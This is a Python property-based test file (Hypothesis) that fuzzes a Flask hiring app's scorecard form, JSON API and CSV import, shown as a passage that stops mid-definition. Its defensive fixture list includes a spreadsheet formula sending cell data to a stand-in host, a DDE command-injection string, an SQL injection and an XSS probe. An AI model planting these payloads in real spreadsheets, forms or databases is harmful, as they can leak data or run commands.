"""Property-based tests (Hypothesis) of every input users send: the scorecard form and its
autosave, the JSON API's writes, `hiring import scorecards` and the rubric loader.

Whatever arrives: no 5xx, no traceback, nothing half-written (a refused request changes
no row; an accepted one writes exactly what was sent), and every refusal says what is
wrong and where. Then the limits: request size, free text, CSV files.

Example counts keep the file under a minute on SQLite; FUZZ_SCALE=10 runs ten times as many."""

from __future__ import annotations

import copy
import csv
import functools
import io
import json
import math
import os
import re
import tempfile
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import Result
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir
from sqlmodel import select
from werkzeug.test import TestResponse, encode_multipart

from hiring import accounts, scorecard_csv_format, scoring
from hiring.candidates import assign_interview, create_candidate
from hiring.db import new_session
from hiring.models import Recommendation, Scorecard, User
from hiring.rubric_loader import load_rubrics, parse_rubric
from hiring.rubric_yaml import read_yaml
from hiring.scorecard_csv_format import HEADER
from hiring.scoring import RatingInput, ScorecardInput
from tests.conftest import AuthActions
from tests.helpers import csrf_token, empty_tables, make_user

# Hypothesis's caches (Unicode tables, constants) live outside the repository too.
set_hypothesis_home_dir(Path(tempfile.gettempdir()) / "hiring-hypothesis")
settings.register_profile(
    "fuzz",
    database=None,  # keeps Hypothesis's example database (.hypothesis/) out of the repository
    deadline=None,  # one request takes 5 to 500 ms on this slow machine, and more on CI
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
FUZZ = settings.get_profile("fuzz")
FACTOR = int(os.environ.get("FUZZ_SCALE", "1"))  # more examples

PROJECT_RUBRICS = Path(__file__).resolve().parent.parent / "rubrics"
PM = load_rubrics([PROJECT_RUBRICS]).rubrics["product-manager"]
COMPETENCIES = [c.id for c in PM.competencies]
FOCUS = ["high-agency", "decisiveness"]
ANTI_PATTERNS = [p.id for p in PM.anti_patterns]
SCALE = [p.value for p in PM.scale]
# Tables a request may write; sign-in bookkeeping (sessions, failures) is left out.
DOMAIN_TABLES = (
    "users",
    "api_tokens",
    "rubric_versions",
    "candidates",
    "interviews",
    "scorecards",
    "audit_entries",
    "idempotency_keys",
    "ratings",
    "ratings_versions",
    "candidate_rollups",
)

# Text as people and attackers send it: any character, surrogates included, and the
# values that broke something once (NUL, lone surrogates, long, formula-like, numbers).
NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "'",
    "\t=1",
    "\r\n",
    "²",
    "null",
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE candidates;--",
    "\u202egnp.exe",
    "😀" * 3,
]
# Long ones are built, so that Hypothesis's description of the strategy stays short.
LONG = st.sampled_from([("x", 201), ("x", 10_001), ("9", 5000)]).map(lambda pair: pair[0] * pair[1])
TEXTS = st.text(st.characters(exclude_categories=()), max_size=30) | st.sampled_from(NASTY) | LONG
NUMBERS = (
    st.integers()
    | st.sampled_from([2**31, 2**63, -(2**63) - 1, 10**400])
    | st.floats(allow_nan=True, allow_infinity=True)
)
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | NUMBERS | TEXTS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=8,
)


def maybe(valid: st.SearchStrategy[Any], junk: st.SearchStrategy[Any] = JSON_VALUES) -> Any:
    """Mostly (4 in 5) a plausible value, else junk: by default, anything JSON carries."""
    return st.sampled_from([True, True, True, True, False]).flatmap(
        lambda plausible: valid if plausible else junk
    )


def counts(app: Flask) -> dict[str, int]:
    """Rows per table that requests may write."""
    with app.extensions["hiring.engine"].connect() as connection:
        return {
            name: connection.exec_driver_sql(f'SELECT count(*) FROM "{name}"').scalar_one()
            for name in DOMAIN_TABLES
        }


def stored_scorecard(app: Flask, interview_id: int) -> dict[str, Any] | None:
    """The interview's scorecard as stored, or None."""
    with new_session(app.extensions["hiring.engine"]) as session:
        found = session.exec(select(Scorecard).where(Scorecard.interview_id == interview_id))
        card = found.first()
        if card is None:
            return None
        return {
            "status": card.status.value,
            "version": card.version,
            "ratings": card.ratings,
            "anti_patterns": card.anti_patterns,
            "recommendation": card.recommendation.value if card.recommendation else None,
            "takeaways": card.takeaways,
        }


def content(card: dict[str, Any] | None) -> dict[str, Any] | None:
    """What a scorecard says, without its status and version."""
    if card is None:
        return None
    return {key: card[key] for key in ("ratings", "anti_patterns", "recommendation", "takeaways")}


def assert_no_traceback(text: str) -> None:
    assert "Traceback" not in text
    assert not re.search(r'File "[^"]+", line \d+', text)


# The JSON API


@dataclass
class Loop:
    """A product-manager candidate, Ivan's interview of them on FOCUS, and the API tokens
    of Rita (recruiter) and Ivan (interviewer)."""

    app: Flask
    client: FlaskClient
    candidate_id: int
    interview_id: int
    tokens: dict[str, str]

    def call(self, method: str, path: str, who: str, **options: Any) -> TestResponse:
        headers = {"Authorization": f"Bearer {self.tokens[who]}", **options.pop("headers", {})}
        return self.client.open(f"/api/v1{path}", method=method, headers=headers, **options)


@pytest.fixture
def loop(app: Flask, client: FlaskClient, users: dict[str, User]) -> Loop:
    with app.app_context(), new_session(app.extensions["hiring.engine"]) as session:
        rubrics = app.extensions["hiring.rubrics"].current()
        candidate = create_candidate(
            session=session,
            rubrics=rubrics,
            name="Cam Candidate",
            email="cam@example.com",
            rubric_id="product-manager",
        )
        interview = assign_interview(
            session=session,
            rubrics=rubrics,
            candidate=candidate,
            interviewer_email="ivan@example.com",
            focus=FOCUS,
        )
        tokens = {
            who: accounts.issue_token(session=session, user=session.merge(users[who]))
            for who in ("recruiter", "interviewer")
        }
        session.commit()
        assert candidate.id is not None and interview.id is not None
        return Loop(app, client, candidate.id, interview.id, tokens)


def assert_refusal_explained(response: TestResponse, sent: Any) -> None:
    """A 4xx in the API's shape whose message names each field it complains about."""
    assert 400 <= response.status_code < 500, response.get_data(as_text=True)[:500]
    body = response.get_json()
    assert body["status"] == response.status_code
    assert body["error"].strip()
    if response.status_code == 400:
        assert body["details"], body
        fields = {"body", "If-Match", "Idempotency-Key", "version"}
        if isinstance(sent, dict):  # a name that is no text is shown escaped: \\ud800
            fields |= {name.encode(errors="backslashreplace").decode() for name in sent}
        fields |= {"name", "email", "rubric", "interviewer_email", "ratings", "recommendation"}
        for path, problem in body["details"].items():
            assert any(path == f or path.startswith(f"{f}.") for f in fields), (path, body)
            assert isinstance(problem, str) and problem.strip()
            assert path in body["error"]


def created_or_refused(loop: Loop, path: str, body: Any, table: str) -> dict[str, Any] | None:
    """A recruiter's POST of `body`: the object created, with one row more in `table`, or
    None after a refusal that says why and writes nothing."""
    before = counts(loop.app)
    response = loop.call("POST", path, "recruiter", json=body)
    assert_no_traceback(response.get_data(as_text=True))
    event(f"status {response.status_code}")
    after = counts(loop.app)
    if response.status_code != 201:
        assert_refusal_explained(response, body)
        assert after == before
        return None
    assert after == {**before, table: before[table] + 1}
    created: dict[str, Any] = response.get_json()
    return created


NAMES = st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=40)
# Unique, so that few are refused as taken; "=", "+" and "-" may start an address.
EMAILS = st.builds(
    "{}{}@example.com".format,
    st.from_regex(r"\A[a-z0-9._%+=-]{0,12}\Z"),
    st.uuids().map(lambda unique: unique.hex[:8]),
)
CANDIDATE_BODIES = st.fixed_dictionaries(
    {
        "name": maybe(NAMES, st.sampled_from([200, 201]).map(lambda n: "x" * n) | JSON_VALUES),
        "email": maybe(EMAILS),
        "rubric": maybe(st.sampled_from(["product-manager", "product-engineer", "nope", ""])),
    },
    optional={
        "stage_profile": maybe(st.sampled_from([None, "", "early-stage", "growth-stage", "no"])),
    },
)
UNKNOWN_FIELDS = maybe(st.just({}), st.dictionaries(TEXTS, JSON_VALUES, min_size=1, max_size=2))


@settings(FUZZ, max_examples=60 * FACTOR)
@given(
    body=CANDIDATE_BODIES,
    unknown=UNKNOWN_FIELDS,
    dropped=st.sampled_from([None, None, None, None, "name", "email", "rubric"]),
)
# Found: a name of 201 characters or with a NUL, a 500 on PostgreSQL; a lone surrogate, on both.
@example(
    body={"name": "x" * 201, "email": "a@example.com", "rubric": "product-manager"},
    unknown={},
    dropped=None,
)
@example(
    body={"name": "a\x00b", "email": "b@example.com", "rubric": "product-manager"},
    unknown={},
    dropped=None,
)
@example(
    body={"name": "\ud800", "email": "c@example.com", "rubric": "product-manager"},
    unknown={},
    dropped=None,
)
def test_api_add_candidate_writes_what_was_sent_or_nothing(
    loop: Loop, body: dict[str, Any], unknown: dict[str, Any], dropped: str | None
) -> None:
    body = {**unknown, **body}
    body.pop(dropped or "", None)
    created = created_or_refused(loop, "/candidates", body, "candidates")
    if created is None:
        return
    assert created["name"] == body["name"].strip()
    assert created["email"] == accounts.normalise_email(body["email"])
    assert (created["rubric"], created["stage_profile"]) == (
        body["rubric"],
        body.get("stage_profile") or None,
    )


TIMES = st.datetimes(
    timezones=st.none()
    | st.sampled_from([UTC, timezone(timedelta(hours=14)), timezone(timedelta(hours=-12))])
).map(datetime.isoformat)
INTERVIEW_BODIES = st.fixed_dictionaries(
    {
        "interviewer_email": maybe(
            st.sampled_from(["ivan@example.com", "OLGA@example.com", "nobody@example.com"])
        )
    },
    optional={
        "focus": maybe(st.none() | st.lists(st.sampled_from([*COMPETENCIES, "nope"]), max_size=4)),
        "scheduled_at": maybe(st.none() | TIMES),
    },
)


@settings(FUZZ, max_examples=40 * FACTOR)
@given(body=INTERVIEW_BODIES)
# Found: a time with no UTC equivalent, or no day after it, a 500.
@example(body={"interviewer_email": "ivan@example.com", "scheduled_at": "0001-01-01T00:00+05:00"})
@example(body={"interviewer_email": "ivan@example.com", "scheduled_at": "9999-12-31T12:00Z"})
def test_api_assign_interview_writes_what_was_sent_or_nothing(
    loop: Loop, body: dict[str, Any]
) -> None:
    path = f"/candidates/{loop.candidate_id}/interviews"
    created = created_or_refused(loop, path, body, "interviews")
    if created is None:
        return
    assert created["interviewer_email"] == body["interviewer_email"].lower()
    wanted = body.get("focus") or COMPETENCIES
    assert created["focus"] == [c for c in COMPETENCIES if c in wanted]
    if body.get("scheduled_at"):
        sent = datetime.fromisoformat(body["scheduled_at"])
        assert datetime.fromisoformat(created["scheduled_at"]) == sent


EVIDENCE = (
    st.text(st.characters(exclude_categories=()), max_size=40) | st.sampled_from(NASTY) | LONG
)
RATINGS = st.dictionaries(
    maybe(st.sampled_from(FOCUS), st.sampled_from(["high-eq", "nope"]) | TEXTS),  # keys: text
    maybe(
        st.fixed_dictionaries(
            {},
            optional={
                "rating": maybe(
                    st.sampled_from([None, *SCALE, 3.0]), st.sampled_from([0, 5, 3.5, True, "3"])
                ),
                "evidence": maybe(EVIDENCE),
            },
        )
    ),
    max_size=3,
)
TICKED = st.lists(
    maybe(
        st.fixed_dictionaries(
            {"id": maybe(st.sampled_from([*ANTI_PATTERNS, "nope"]))},
            optional={"evidence": maybe(EVIDENCE)},
        )
    ),
    max_size=2,
)
SCORECARD_BODIES = st.fixed_dictionaries(
    {},
    optional={
        "ratings": maybe(RATINGS),
        "anti_patterns": maybe(TICKED),
        "recommendation": maybe(st.sampled_from([None, "yes", "strong_no", "maybe"])),
        "takeaways": maybe(EVIDENCE),
        "submit": maybe(st.booleans()),
    },
)
IF_MATCH = st.sampled_from([None, None, "current", "0", "7", '"current"', "²", "x"]) | LONG


def expected_scorecard(body: dict[str, Any]) -> dict[str, Any]:
    """What an accepted PUT stores: ratings kept when rated or with evidence, text stripped."""
    ratings = {}
    for competency, given_ in body.get("ratings", {}).items():
        rating, evidence = given_.get("rating"), given_.get("evidence", "").strip()
        if rating is not None or evidence:
            ratings[competency] = {"rating": rating, "evidence": evidence}
    return {
        "ratings": ratings,
        "anti_patterns": [
            {"id": ticked["id"], "evidence": ticked.get("evidence", "").strip()}
            for ticked in body.get("anti_patterns", [])
        ],
        "recommendation": body.get("recommendation"),
        "takeaways": body.get("takeaways", "").strip(),
    }


@settings(FUZZ, max_examples=60 * FACTOR)
@given(
    body=SCORECARD_BODIES,
    unknown=UNKNOWN_FIELDS,
    if_match=IF_MATCH,
    with_key=st.booleans(),
)
# Found: an If-Match of 5,000 digits, a 500; a NUL in the takeaways, a 500 on PostgreSQL.
@example(body={}, unknown={}, if_match="9" * 5000, with_key=False)
@example(body={"takeaways": "\x00"}, unknown={}, if_match=None, with_key=False)
def test_api_scorecard_put_writes_what_was_sent_or_nothing(
    loop: Loop, body: dict[str, Any], unknown: dict[str, Any], if_match: str | None, with_key: bool
) -> None:
    body = {**unknown, **body}
    before, card = counts(loop.app), stored_scorecard(loop.app, loop.interview_id)
    # a new key each time: the same key again would replay an earlier example's answer
    headers = {"Idempotency-Key": str(uuid.uuid4())} if with_key else {}
    if if_match:
        version = str(card["version"] if card else 0)
        headers["If-Match"] = if_match.replace("current", version)
    path = f"/interviews/{loop.interview_id}/scorecard"
    response = loop.call("PUT", path, "interviewer", json=body, headers=headers)
    assert_no_traceback(response.get_data(as_text=True))
    event(f"status {response.status_code}")
    if response.status_code != 200:
        assert_refusal_explained(response, body)
        assert counts(loop.app) == before
        assert stored_scorecard(loop.app, loop.interview_id) == card
        return
    saved = stored_scorecard(loop.app, loop.interview_id)
    assert saved is not None
    assert content(saved) == expected_scorecard(body)
    assert response.get_json()["version"] == saved["version"]
    if body.get("submit") or (card and card["status"] == "submitted"):
        assert saved["status"] == "submitted"


MALFORMED = st.one_of(
    st.binary(max_size=300),
    st.integers(1, 20_000).flatmap(
        lambda depth: st.sampled_from([b"[" * depth, b'{"a":' * depth + b"1" + b"}" * depth])
    ),
    st.just(b'{"name": 9').map(lambda start: start + b"9" * 5000 + b"}"),
    st.sampled_from(
        [
            b"",
            b"null",
            b"[]",
            b'"text"',
            b"NaN",
            b'{"name": NaN, "email": Infinity, "rubric": -Infinity}',
            b'{"ratings": {"high-agency": {"rating": NaN}}}',
            b'{"ratings": {"high-agency": {"rating": 1e999}}}',
            b'{"interviewer_email": "ivan@example.com", "scheduled_at": 1e308}',
            b'{"name": "\xff\xfe", "email": "a@example.com", "rubric": "product-manager"}',
            b'{"name": "\\ud800", "email": "b@example.com", "rubric": "product-manager"}',
            b'{"takeaways": "\\u0000"}',
            b'{"a": 1, "a": 2}',
        ]
    ),
    JSON_VALUES.map(lambda value: json.dumps(value).encode()),
    JSON_VALUES.flatmap(
        lambda value: st.sampled_from(["utf-16", "utf-32", "latin-1"]).map(
            lambda codec: json.dumps(value, ensure_ascii=False).encode(codec, "replace")
        )
    ),
)
CONTENT_TYPES = st.sampled_from(
    [
        "application/json",
        "application/json; charset=latin-1",
        "application/vnd.api+json",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "",
    ]
)


@settings(FUZZ, max_examples=80 * FACTOR)
@given(data=MALFORMED, content_type=CONTENT_TYPES, target=st.integers(0, 2))
# Found: JSON nested too deeply for Python, a 500.
@example(data=b"[" * 5000, content_type="application/json", target=0)
@example(data=b'{"a":' * 5000, content_type="application/json", target=2)
def test_api_malformed_bodies_are_refused_with_a_reason(
    loop: Loop, data: bytes, content_type: str, target: int
) -> None:
    method, path, who = [
        ("POST", "/candidates", "recruiter"),
        ("POST", f"/candidates/{loop.candidate_id}/interviews", "recruiter"),
        ("PUT", f"/interviews/{loop.interview_id}/scorecard", "interviewer"),
    ][target]
    before, card = counts(loop.app), stored_scorecard(loop.app, loop.interview_id)
    response = loop.call(method, path, who, data=data, content_type=content_type)
    assert_no_traceback(response.get_data(as_text=True))
    event(f"status {response.status_code}")
    assert response.status_code < 500
    if response.status_code >= 400:
        try:
            sent = json.loads(data)
        except (ValueError, RecursionError):
            sent = None
        assert_refusal_explained(response, sent)
        assert counts(loop.app) == before
        assert stored_scorecard(loop.app, loop.interview_id) == card


@settings(FUZZ, max_examples=30 * FACTOR)
@given(object_id=st.integers(0, 10**30), method=st.sampled_from(["GET", "POST", "PUT"]))
@example(object_id=2**31, method="PUT")  # Found: an id beyond the INTEGER columns, a 500.
def test_any_id_in_a_path_is_found_or_404(loop: Loop, object_id: int, method: str) -> None:
    paths = {
        "GET": [f"/candidates/{object_id}", f"/interviews/{object_id}/scorecard"],
        "POST": [f"/candidates/{object_id}/interviews"],
        "PUT": [f"/interviews/{object_id}/scorecard"],
    }
    for path in paths[method]:
        who = "interviewer" if method == "PUT" else "recruiter"
        response = loop.call(method, path, who, json={"interviewer_email": "ivan@example.com"})
        assert response.status_code in (200, 201, 400, 404), response.get_data()
        if response.status_code >= 400:
            assert_refusal_explained(response, None)


@pytest.mark.parametrize(
    "path",
    [
        f"/candidates/{2**31}",
        f"/candidates/{2**31}/rollup.csv",
        f"/candidates/{2**31}/debrief",
        f"/candidates/{2**31}/debrief.pdf",
        f"/interviews/{2**63}/scorecard",
    ],
)
def test_web_pages_answer_404_for_ids_beyond_the_columns(
    loop: Loop, auth: AuthActions, path: str
) -> None:
    assert auth.login("rita@example.com").status_code == 302
    response = loop.client.get(path)
    assert response.status_code == 404
    assert "has the id" in response.get_data(as_text=True)


def test_an_interview_time_beyond_the_calendar_is_refused_next_to_its_field(
    loop: Loop, auth: AuthActions
) -> None:
    assert auth.login("rita@example.com").status_code == 302
    path = f"/candidates/{loop.candidate_id}"
    token = csrf_token(loop.client.get(path).data)
    response = loop.client.post(
        f"{path}/interviews",
        data={
            "interviewer_email": "olga@example.com",
            "scheduled_at": "9999-12-31T23:59",
            "timezone_offset": "-300",
            "csrf_token": token,
        },
    )
    assert response.status_code == 400
    assert "out of range" in response.get_data(as_text=True)
    assert loop.client.get(path).status_code == 200  # the candidate page still opens


def test_a_nul_in_the_sign_in_email_is_an_ordinary_failure(
    client: FlaskClient, users: dict[str, User]
) -> None:
    token = csrf_token(client.get("/auth/login").data)
    response = client.post(
        "/auth/login",
        data={"email": "rita\x00@example.com", "password": "wrong-password", "csrf_token": token},
    )
    assert response.status_code == 200
    assert "Invalid email or password." in response.get_data(as_text=True)


# The scorecard form and its autosave


@dataclass
class Form:
    """Ivan, signed in, at the scorecard form of his interview of the Loop's candidate."""

    loop: Loop
    token: str

    def post(self, fields: dict[str, str], path: str = "", csrf: str = "valid") -> TestResponse:
        token = {"valid": {"csrf_token": self.token}, "missing": {}, "junk": {"csrf_token": "x"}}
        url = f"/interviews/{self.loop.interview_id}/scorecard{path}"
        return self.loop.client.post(url, data={**fields, **token[csrf]})


@pytest.fixture
def form(loop: Loop, auth: AuthActions) -> Form:
    assert auth.login("ivan@example.com").status_code == 302
    page = loop.client.get(f"/interviews/{loop.interview_id}/scorecard")
    return Form(loop, csrf_token(page.data))


# Form fields come as text, and a browser cannot send a lone surrogate.
FORM_TEXT = (
    st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
    | st.sampled_from([t for t in NASTY if t != "\ud800"])
    | LONG
)


def form_fields(competencies: list[str]) -> st.SearchStrategy[dict[str, str]]:
    """The scorecard form's fields, mostly plausible, some missing, some junk."""
    text = maybe(st.text(st.characters(exclude_categories=("Cs",)), max_size=40), FORM_TEXT)
    fields: dict[str, st.SearchStrategy[str]] = {
        "recommendation": maybe(st.sampled_from(["", "yes", "strong_no"]), FORM_TEXT),
        "takeaways": text,
        "action": maybe(st.sampled_from(["draft", "submit"]), FORM_TEXT),
    }
    for competency in competencies:
        choices = st.sampled_from([*map(str, SCALE), "not-assessed"])
        fields[f"rating__{competency}"] = maybe(choices, FORM_TEXT)
        fields[f"evidence__{competency}"] = text
    for pattern in ANTI_PATTERNS[:2]:
        fields[f"ticked__{pattern}"] = maybe(st.sampled_from(["y", "false", ""]), FORM_TEXT)
        fields[f"ap_evidence__{pattern}"] = text
    return st.fixed_dictionaries({}, optional=fields)


def expected_from_form(fields: dict[str, str]) -> dict[str, Any]:
    """What a saved form stores: each focus competency's rating (none when not assessed)
    and evidence, kept when either is given; the ticked anti-patterns; stripped text."""
    ratings = {}
    for competency in FOCUS:
        chosen = fields.get(f"rating__{competency}", "not-assessed")
        evidence = fields.get(f"evidence__{competency}", "").strip()
        rating = None if chosen == "not-assessed" else int(chosen)
        if rating is not None or evidence:
            ratings[competency] = {"rating": rating, "evidence": evidence}
    return {
        "ratings": ratings,
        "anti_patterns": [
            {"id": pattern, "evidence": fields.get(f"ap_evidence__{pattern}", "").strip()}
            for pattern in ANTI_PATTERNS
            if fields.get(f"ticked__{pattern}", "") not in ("", "false")
        ],
        "recommendation": fields.get("recommendation", "").strip() or None,  # blank: none
        "takeaways": fields.get("takeaways", "").strip(),
    }


@settings(FUZZ, max_examples=50 * FACTOR)
@given(
    fields=form_fields([*FOCUS, "high-eq"]),
    version=st.sampled_from(["current", "current", "0", "", "²", "٣", "-1"]) | LONG,
    csrf=st.sampled_from(["valid", "valid", "valid", "missing", "junk"]),
)
# Found: a version field of "²" (a digit to str.isdigit, not to int) or 5,000 digits, a 500.
@example(
    fields={"rating__high-agency": "3", "evidence__high-agency": "Did it."},
    version="²",
    csrf="valid",
)
@example(fields={}, version="9" * 5000, csrf="valid")
def test_scorecard_form_saves_what_was_typed_or_says_why_not(
    form: Form, fields: dict[str, str], version: str, csrf: str
) -> None:
    app, interview_id = form.loop.app, form.loop.interview_id
    before, card = counts(app), stored_scorecard(app, interview_id)
    fields["version"] = version.replace("current", str(card["version"] if card else 0))
    response = form.post(fields, csrf=csrf)
    page = response.get_data(as_text=True)
    assert_no_traceback(page)
    event(f"status {response.status_code}")
    assert response.status_code in (302, 400, 409), page[:500]
    saved = stored_scorecard(app, interview_id)
    kept = "your answers are saved as a draft" in page
    if response.status_code == 302 or kept:
        assert saved is not None and content(saved) == expected_from_form(fields)
        return
    assert (counts(app), saved) == (before, card)
    if response.status_code == 409:
        assert "This scorecard was changed elsewhere" in page
    elif csrf == "valid":
        summary = re.search(r'id="error-summary".*?<ul>(.*?)</ul>', page, re.S)
        assert summary and re.search(r"<li>.*?: \S", summary.group(1)), page[:2000]
    else:
        assert "CSRF" in page


@settings(FUZZ, max_examples=50 * FACTOR)
@given(fields=form_fields(FOCUS), current=st.booleans())
@example(fields={"recommendation": " "}, current=False)  # once a 500: a blank choice
def test_autosave_saves_a_draft_of_what_was_typed_or_says_why_not(
    form: Form, fields: dict[str, str], current: bool
) -> None:
    app, interview_id = form.loop.app, form.loop.interview_id
    before, card = counts(app), stored_scorecard(app, interview_id)
    fields["version"] = str(card["version"] if card else 0) if current else "1000"
    response = form.post(fields, path="/autosave")
    assert_no_traceback(response.get_data(as_text=True))
    event(f"status {response.status_code}")
    body = response.get_json()
    saved = stored_scorecard(app, interview_id)
    if response.status_code == 200:
        assert saved is not None and saved["status"] == "draft"
        assert (body["version"], content(saved)) == (saved["version"], expected_from_form(fields))
        return
    assert response.status_code in (400, 409), body
    assert (counts(app), saved) == (before, card)
    assert body["error"].strip()
    for field, messages in body.get("details", {}).items():
        assert field in fields and messages[0].strip()


# `hiring import scorecards`


def import_file(runner: FlaskCliRunner, path: Path, content: bytes) -> Result:
    path.write_bytes(content)
    return runner.invoke(args=["import", "scorecards", str(path)])


def assert_import_outcome(result: Result, path: Path) -> None:
    """No crash and no traceback; a refusal lists each problem with the file (and line)."""
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert_no_traceback(result.output)
    if result.exit_code == 0:
        return
    *problems, summary = result.stderr.splitlines()
    assert summary == f"Error: {len(problems)} error(s) in {path}: nothing was imported"
    for problem in problems:
        assert re.match(rf"{re.escape(str(path))}(:\d+)?: \S", problem), problem


HEADER_LINE = ",".join(HEADER)
CSV_BYTES = st.one_of(
    st.binary(max_size=400),
    st.binary(max_size=400).map(lambda rest: f"{HEADER_LINE}\n".encode() + rest),
    st.text(max_size=300).map(lambda rest: f"\ufeff{HEADER_LINE}\r\n{rest}".encode()),
    st.text(max_size=200).flatmap(
        lambda rest: st.sampled_from(["utf-16", "utf-32", "cp1252", "latin-1"]).map(
            lambda codec: f"{HEADER_LINE}\n{rest}".encode(codec, "replace")
        )
    ),
)


@settings(FUZZ, max_examples=40 * FACTOR)
@given(content=CSV_BYTES)
def test_import_of_any_bytes_imports_or_explains_and_writes_nothing(
    app: Flask, runner: FlaskCliRunner, tmp_path: Path, content: bytes
) -> None:
    before = counts(app)
    result = import_file(runner, tmp_path / "scores.csv", content)
    event(f"exit {result.exit_code}")
    assert_import_outcome(result, tmp_path / "scores.csv")
    if result.exit_code:
        assert counts(app) == before


# What a person may write in a cell, NUL excepted: quotes, commas, line breaks, formulas.
CELL_TEXT = st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=80
)
FORMULAS = st.sampled_from(['=HYPERLINK("http://x")', "+cmd", "-2+3", "@SUM(1)", "'=1", "''"])
ESCAPED = ("=", "+", "-", "@", "\t", "\r", "'")  # an apostrophe before these is dropped


@dataclass
class ScorecardFile:
    rows: list[dict[str, str]]
    valid: bool


@st.composite
def scorecard_files(draw: st.DrawFn) -> ScorecardFile:
    """A file of valid scorecards (unique pairs, consistent cells), perhaps with one cell
    replaced by anything."""
    pool = ["ann@example.com", "=cmd@example.com", "-2+3@example.com"]
    emails = draw(st.lists(st.sampled_from(pool), min_size=1, max_size=2, unique=True))
    names = {e: draw(maybe(CELL_TEXT, FORMULAS).filter(lambda n: n.strip())) for e in emails}
    interviewers = ["ivan@example.com", "+olga@example.com"]
    pairs = draw(
        st.lists(
            st.tuples(st.sampled_from(emails), st.sampled_from(interviewers)), unique=True
        ).filter(bool)
    )
    rows = []
    for candidate, interviewer in pairs:
        rated = draw(st.lists(st.sampled_from(COMPETENCIES), min_size=1, max_size=3, unique=True))
        common = {
            "candidate_email": candidate,
            "candidate_name": names[candidate],
            "rubric": "product-manager",
            "interviewer_email": interviewer,
            "recommendation": draw(st.sampled_from(["", "no", "strong_yes"])),
            "anti_patterns": ";".join(draw(st.lists(st.sampled_from(ANTI_PATTERNS), unique=True))),
            "submitted_at": draw(st.sampled_from(["", "2026-11-02", "2026-11-02T14:00:00+01:00"])),
        }
        for index, competency in enumerate(rated):
            rating = str(draw(st.sampled_from(SCALE))) if index == 0 else ""
            rating = rating or draw(st.sampled_from(["", *map(str, SCALE)]))
            evidence = draw(maybe(CELL_TEXT, FORMULAS).filter(lambda e: e.strip()))
            rows.append(
                {**common, "competency": competency, "rating": rating, "evidence": evidence}
            )
    rows = draw(st.permutations(rows))
    changed = draw(
        st.none() | st.tuples(st.sampled_from(range(len(rows))), st.sampled_from(HEADER))
    )
    if changed is not None:
        row, column = changed
        rows[row] = {**rows[row], column: draw(TEXTS.filter(lambda t: "\ud800" not in t))}
    return ScorecardFile(rows, valid=changed is None)


def written(app: Flask) -> dict[tuple[str, str], dict[str, Any]]:
    """Each stored scorecard by candidate and interviewer email, with the candidate's name."""
    query = """
        SELECT c.email, u.email, c.name, s.ratings, s.recommendation
        FROM scorecards s JOIN interviews i ON i.id = s.interview_id
        JOIN candidates c ON c.id = i.candidate_id JOIN users u ON u.id = i.interviewer_id
    """
    with app.extensions["hiring.engine"].connect() as connection:
        rows = connection.exec_driver_sql(query).all()
    return {
        (candidate, interviewer): {
            "name": name,
            "ratings": ratings if isinstance(ratings, dict) else json.loads(ratings),
            "recommendation": recommendation.lower() if recommendation else "",
        }
        for candidate, interviewer, name, ratings, recommendation in rows
    }


def expected_import(rows: list[dict[str, str]]) -> dict[tuple[str, str], dict[str, Any]]:
    """What importing these rows writes: one apostrophe dropped before a formula character
    or another apostrophe, cells stripped, a not-assessed row kept only with evidence."""

    def cell(text: str) -> str:
        return (text[1:] if text[:1] == "'" and text[1:2] in ESCAPED else text).strip()

    names: dict[str, str] = {}
    cards: dict[tuple[str, str], dict[str, Any]] = {}
    for row in rows:
        names.setdefault(row["candidate_email"], cell(row["candidate_name"]))
        card = cards.setdefault(
            (row["candidate_email"], row["interviewer_email"]),
            {"name": "", "ratings": {}, "recommendation": row["recommendation"]},
        )
        rating, evidence = cell(row["rating"]), cell(row["evidence"])
        if rating or evidence:
            card["ratings"][row["competency"]] = {
                "rating": int(rating) if rating else None,
                "evidence": evidence,
            }
    for (candidate, _), card in cards.items():
        card["name"] = names[candidate]
    return cards


@settings(FUZZ, max_examples=40 * FACTOR)
@given(
    file=scorecard_files(),
    # as spreadsheets write CSV: every cell quoted, or those with a comma, quote or line
    # break between CRLF rows (with LF rows, Python's writer leaves a lone CR unquoted)
    dialect=st.sampled_from(
        [(csv.QUOTE_ALL, "\n"), (csv.QUOTE_ALL, "\r\n"), (csv.QUOTE_MINIMAL, "\r\n")]
    ),
    bom=st.booleans(),
)
def test_import_writes_every_scorecard_exactly_or_nothing(
    app: Flask,
    runner: FlaskCliRunner,
    tmp_path: Path,
    file: ScorecardFile,
    dialect: tuple[int, str],
    bom: bool,
) -> None:
    empty_tables(app.extensions["hiring.engine"])
    buffer = io.StringIO()
    quoting, newline = dialect
    writer = csv.DictWriter(buffer, HEADER, quoting=quoting, lineterminator=newline)
    writer.writeheader()
    writer.writerows(file.rows)
    content = ("\ufeff" if bom else "") + buffer.getvalue()
    before = counts(app)
    result = import_file(runner, tmp_path / "scores.csv", content.encode())
    event(f"{'valid' if file.valid else 'changed'}, exit {result.exit_code}")
    assert_import_outcome(result, tmp_path / "scores.csv")
    if result.exit_code:
        assert not file.valid, result.stderr
        assert counts(app) == before
    elif file.valid:
        assert written(app) == expected_import(file.rows)


# Names and evidence as the app stores them, formulas and line breaks (a lone CR) included.
HOSTILE = maybe(CELL_TEXT, FORMULAS | st.just("Ann\r=1+1"))


@settings(FUZZ, max_examples=25 * FACTOR)
@given(
    names=st.lists(HOSTILE.filter(str.strip), min_size=1, max_size=3),
